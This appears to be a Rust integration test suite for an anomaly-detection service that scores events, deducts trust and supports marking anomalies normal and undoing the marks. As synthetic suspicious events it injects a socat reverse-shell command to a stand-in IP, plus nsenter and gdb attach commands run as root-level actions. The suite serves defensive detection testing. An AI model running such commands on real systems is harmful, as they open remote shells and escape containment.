//! Live mode: what does not belong becomes an anomaly with its reasons and its cost, and a correction takes all of it back.

use crate::life::{Life, failure, odd_sudo};
use crate::server::{Server, eventually};
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// What an anomaly of each type costs, as documented.
const WEIGHTS: [(&str, f64); 8] = [
    ("process_start", 5.0),
    ("process_end", 1.0),
    ("network_connection", 6.0),
    ("sudo_command", 20.0),
    ("file_change", 10.0),
    ("login", 5.0),
    ("logout", 1.0),
    ("auth_failure", 8.0),
];

fn penalty(anomaly: &Value) -> f64 {
    WEIGHTS.iter().find(|(name, _)| anomaly["event_type"] == *name).unwrap().1
}

/// Trust as the rules give it, from the list of anomalies: 100 less what stands, and never below 0.
pub(crate) fn recomputed_trust(anomalies: &[Value]) -> f64 {
    let debt: f64 = anomalies.iter().filter(|a| a["disposition"] != "false_positive").map(penalty).sum();
    (100.0 - debt).max(0.0)
}

/// An anomaly explains and costs what it must.
pub(crate) fn assert_sound(anomaly: &Value) {
    let number = |key: &str| anomaly[key].as_f64().unwrap_or_else(|| panic!("{key}: {anomaly}"));
    let reasons = anomaly["reasons"].as_array().unwrap();
    assert!(!reasons.is_empty(), "{anomaly}");
    let explained: f64 = reasons.iter().map(|r| r["contribution"].as_f64().unwrap()).sum();
    assert!((number("base") + explained - number("score")).abs() < 1e-6, "{anomaly}");
    assert!(number("score") > number("threshold"), "{anomaly}");
    assert!((0.0..=1.0).contains(&number("confidence")), "{anomaly}");
    assert!((number("penalty") - penalty(anomaly)).abs() < 1e-9, "{anomaly}");
    let after = (number("trust_before") - number("penalty")).max(0.0);
    assert!((number("trust_after") - after).abs() < 1e-9, "{anomaly}");
    assert!(reasons.iter().all(|r| !r["meaning"].as_str().unwrap().is_empty() && r["value"].is_number()), "{anomaly}");
}

/// The newest stored event of this sender's command.
fn newest_with_command(server: &Server, command: &str) -> Value {
    let page = server.get("/api/events/recent?limit=50");
    let found = page["data"].as_array().unwrap().iter().find(|e| e["event"]["process"]["command_line"] == command);
    found.unwrap_or_else(|| panic!("{command} is among the newest: {page}")).clone()
}

#[test]
fn odd_events_cost_trust_and_say_why() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let mut life = Life::new(11, 8000, 60, 48);
    let version = server.train(&life.batches(6000));
    let mut listener = server.listen();
    let session = server.live();

    life.batches(1000).iter().for_each(|b| server.events(b));
    let usual = server.anomalies_after(1000);
    assert!(usual.len() < 100, "normal life is mostly normal: {}", usual.len());

    // A command that nobody ran, at half past three in the night, and a burst of failures from an address of its own.
    let night = trustfold_event::EventTime(life.now.0 + 86_400_000_000 - life.now.0 % 86_400_000_000 + 3 * 3_600_000_000);
    let user = life.user.clone();
    server.events(&odd_sudo(night, &user, "/usr/bin/socat exec:sh tcp:203.0.113.9:4444"));
    let burst: Vec<u8> =
        (0..30).flat_map(|i| failure(trustfold_event::EventTime(night.0 + i * 500_000), "root", "203.0.113.77")).collect();
    server.events(&burst);
    let anomalies = server.anomalies_after(1031);

    let sudo = anomalies.iter().find(|a| a["event"]["process"]["command_line"] == "/usr/bin/socat exec:sh tcp:203.0.113.9:4444");
    let sudo = sudo.expect("the command is found");
    assert_eq!((&sudo["entity"], &sudo["penalty"]), (&json!(format!("user:{user}")), &json!(20.0)), "{sudo}");
    let failures = anomalies.iter().filter(|a| a["event"]["source"]["ip"] == "203.0.113.77").count();
    assert!(failures >= 15, "{failures} of 30 failures were found");
    for anomaly in &anomalies {
        assert_sound(anomaly);
        assert_eq!((&anomaly["session_id"], &anomaly["model_version"]), (&json!(session), &json!(version)));
    }
    assert_eq!(anomalies.iter().map(|a| a["id"].as_str().unwrap()).collect::<BTreeSet<_>>().len(), anomalies.len());

    let trust = server.get("/api/trust");
    assert_eq!(trust["trust"].as_f64().unwrap(), recomputed_trust(&anomalies), "{trust}");
    let debt: f64 = anomalies.iter().map(penalty).sum();
    assert!((trust["debt"].as_f64().unwrap() - debt).abs() < 1e-9, "{trust}");
    // Each scope costs what its own anomalies cost.
    let mallory = server.get("/api/trust?entity=user:root");
    let of_root: f64 = anomalies.iter().filter(|a| a["entity"] == "user:root").map(penalty).sum();
    assert!((mallory["debt"].as_f64().unwrap() - of_root).abs() < 1e-9, "{mallory}");
    let stats = server.get("/api/stats");
    assert_eq!(stats["anomalies"]["found"], anomalies.len());
    assert_eq!(stats["live"]["events_count"], 1031);

    // The stream told all of it, in order.
    let last = anomalies[0]["id"].as_str().unwrap().to_owned();
    listener.until("trust", |t| t["cause"] == last.as_str() && t["scope"] == format!("session:{session}"));
    listener.assert_contiguous();
    let told: BTreeSet<_> = listener.all("anomaly").iter().map(|a| a["id"].as_str().unwrap().to_owned()).collect();
    assert_eq!(told, anomalies.iter().map(|a| a["id"].as_str().unwrap().to_owned()).collect());
    let changes: Vec<_> = listener.all("trust").into_iter().filter(|t| t["scope"] == format!("session:{session}")).collect();
    assert_eq!(changes.len(), anomalies.len());
    assert_eq!(changes.last().unwrap()["after"], trust["trust"]);
    assert!(changes.windows(2).all(|w| w[0]["after"] == w[1]["before"]));
}

#[test]
fn a_mark_gives_back_exactly_what_the_anomaly_cost_and_an_undo_takes_it_again() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let mut life = Life::new(12, 6000, 60, 48);
    let version = server.train(&life.batches(5000));
    server.live();
    let command = "/usr/bin/nsenter -t 1 -a";
    server.events(&odd_sudo(life.later(5.0), "mallory", command));
    server.events(&odd_sudo(life.later(6.0), "eve", "/usr/bin/gdb -p 1"));
    let before = server.anomalies_after(2);
    assert_eq!(before.len(), 2, "{before:?}");
    let anomaly = before.iter().find(|a| a["entity"] == "user:mallory").unwrap();
    let id = anomaly["id"].as_str().unwrap();
    assert_eq!(server.get("/api/trust")["trust"], 60.0);
    let stats_before = server.get("/api/stats");

    // A preview says what would be, and changes nothing.
    let mark = |preview| json!({ "anomaly_id": id, "scope": "anomaly", "comment": "planned work", "preview": preview });
    let preview = server.post("/api/admin/mark_normal", &mark(true));
    assert_eq!((&preview["mark"], &preview["preview"]), (&json!(null), &json!(true)), "{preview}");
    assert_eq!(preview["retracted"], json!({ "anomalies": 1, "points": 20.0, "notices": 0 }));
    assert_eq!(server.get("/api/trust")["trust"], 60.0);
    assert_eq!(server.all("/api/anomalies"), before);
    assert_eq!(server.get("/api/stats")["epoch"], stats_before["epoch"], "a preview is not journaled");

    let mut listener = server.listen();
    let marked = server.post("/api/admin/mark_normal", &mark(false));
    assert_eq!((&marked["preview"], &marked["retracted"]["points"]), (&json!(false), &json!(20.0)), "{marked}");
    assert_eq!(marked["anomaly_ids"], json!([id]));
    assert_eq!(marked["trust"], preview["trust"], "the preview told the truth");
    let mark_id = marked["mark"].as_str().unwrap().to_owned();
    assert_eq!(server.get("/api/trust")["trust"], 80.0);
    assert_eq!(server.get("/api/trust?entity=user:mallory")["trust"], 100.0);
    let shown = server.get(&format!("/api/anomalies/{id}"));
    assert_eq!((&shown["disposition"], &shown["mark"]), (&json!("false_positive"), &json!(mark_id)), "{shown}");
    let open = server.all("/api/anomalies?open=true");
    assert_eq!((open.len(), &open[0]["entity"]), (1, &json!("user:eve")));
    assert_eq!(recomputed_trust(&server.all("/api/anomalies")), 80.0);
    let (status, again) = server.try_post("/api/admin/mark_normal", &mark(false));
    assert_eq!((status, &again["code"]), (409, &json!("conflict")), "{again}");
    let told = listener.until("retraction", |_| true);
    assert_eq!((&told["anomaly_ids"], &told["undo"]), (&json!([id]), &json!(false)), "{told}");

    // A model that knows the mark follows, without anybody's doing.
    assert_eq!(marked["retraining"], true, "{marked}");
    let card = listener.until("model", |_| true);
    assert_eq!(card["marked_rows"], 1, "{card}");
    assert_ne!(card["digest"], version.as_str());
    assert_eq!(server.get("/api/stats")["model_version"], card["digest"]);

    // The same event within a second is no anomaly, and its score does not pass the threshold.
    server.events(&odd_sudo(life.later(5.4), "mallory", command));
    assert_eq!(server.anomalies_after(3).len(), 2);
    let repeated = newest_with_command(&server, command);
    assert_eq!((&repeated["is_anomaly"], &repeated["trust_impact"]), (&json!(false), &json!(0.0)), "{repeated}");
    let threshold = card["threshold"].as_f64().unwrap();
    assert!(repeated["score"].as_f64().unwrap() <= threshold + 1e-6, "{repeated} against {threshold}");
    assert_eq!(server.get("/api/trust")["trust"], 80.0);

    let undone = server.call(&format!("/api/admin/marks/{mark_id}/undo"));
    assert_eq!((&undone["mark"], &undone["retracted"]["points"]), (&json!(mark_id), &json!(20.0)), "{undone}");
    assert_eq!(server.get("/api/trust")["trust"], 60.0);
    let back = server.get(&format!("/api/anomalies/{id}"));
    assert_eq!(&back, anomaly, "as it was before the mark");
    let model = listener.until("model", |_| true);
    assert_eq!((&model["marked_rows"], &model["digest"]), (&json!(0), &json!(version)), "the first model again");
    let (status, twice) = server.try_post(&format!("/api/admin/marks/{mark_id}/undo"), &json!({}));
    assert_eq!((status, &twice["code"]), (404, &json!("not_found")), "{twice}");
    listener.assert_contiguous();
}

#[test]
fn a_pattern_takes_all_of_its_anomalies_and_a_label_none() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let mut life = Life::new(13, 6000, 60, 48);
    server.train(&life.batches(5000));
    server.live();
    let command = "/usr/bin/nsenter -t 1 -a";
    server.events(&(0..3).flat_map(|i| odd_sudo(life.later(5.0 + f64::from(i)), "mallory", command)).collect::<Vec<u8>>());
    server.events(&odd_sudo(life.later(9.0), "eve", "/usr/bin/gdb -p 1"));
    let anomalies = server.anomalies_after(4);
    let of_mallory: Vec<_> = anomalies.iter().filter(|a| a["entity"] == "user:mallory").collect();
    assert!(of_mallory.len() > 1, "{anomalies:?}");
    let before = recomputed_trust(&anomalies);
    assert_eq!(server.get("/api/trust")["trust"], before);

    let eve = anomalies.iter().find(|a| a["entity"] == "user:eve").unwrap()["id"].as_str().unwrap();
    let label = |disposition| json!({ "anomaly_id": eve, "disposition": disposition, "comment": "seen" });
    assert_eq!(server.post("/api/admin/label", &label("true_positive"))["disposition"], "true_positive");
    assert_eq!(server.get("/api/trust")["trust"], before, "a label costs and gives nothing");
    assert_eq!(server.get("/api/stats")["anomalies"]["confirmed"], 1);

    let ask = json!({ "anomaly_id": of_mallory[0]["id"], "scope": "pattern", "comment": "their work", "preview": false });
    let marked = server.post("/api/admin/mark_normal", &ask);
    assert_eq!(marked["retracted"]["anomalies"], of_mallory.len(), "{marked}");
    let ids = |values: &[Value]| values.iter().map(|v| v.as_str().unwrap().to_owned()).collect::<BTreeSet<_>>();
    let expected: BTreeSet<_> = of_mallory.iter().map(|a| a["id"].as_str().unwrap().to_owned()).collect();
    assert_eq!(ids(marked["anomaly_ids"].as_array().unwrap()), expected);
    assert_eq!(server.get("/api/trust")["trust"], 80.0);
    assert_eq!(server.get("/api/trust?entity=user:mallory")["debt"], 0.0);
    let stats = server.get("/api/stats");
    assert_eq!((&stats["anomalies"]["marked_normal"], &stats["anomalies"]["open"]), (&json!(of_mallory.len()), &json!(0)));

    server.call(&format!("/api/admin/marks/{}/undo", marked["mark"].as_str().unwrap()));
    assert_eq!(server.get("/api/trust")["trust"], before);
    server.call("/api/live/stop");

    let audit = eventually("the trail is whole", || {
        let trail = server.all("/api/v1/audit");
        (trail.iter().filter(|a| a["action"] == "model_announced").count() >= 2).then_some(trail)
    });
    for action in ["genesis", "train_start", "train_stop", "live_start", "label", "mark_normal", "undo_mark", "live_stop"] {
        assert_eq!(audit.iter().filter(|a| a["action"] == action).count(), 1, "{action}: {audit:?}");
    }
    let mark = audit.iter().find(|a| a["action"] == "mark_normal").unwrap();
    assert!(mark["detail"].as_str().unwrap().contains("their work") && !mark["actor"].as_str().unwrap().is_empty(), "{mark}");
}
